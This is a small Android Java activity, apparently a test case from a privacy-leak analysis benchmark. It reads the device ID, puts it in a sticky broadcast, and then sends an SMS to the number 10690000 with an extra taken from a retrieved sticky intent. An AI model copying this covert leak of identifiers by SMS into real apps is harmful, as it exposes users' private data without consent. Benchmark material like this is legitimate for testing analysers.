package cn.privlens.suite.sticky_broadcast_other;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        sendStickyBroadcast(new Intent("cn.privlens.suite.sticky_broadcast_other.ID").putExtra("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()));
        Intent last = registerReceiver(null, new IntentFilter("android.intent.action.BATTERY_CHANGED"));
        SmsManager.getDefault().sendTextMessage("10690000", null, last.getStringExtra("id"), null, null);
    }

}
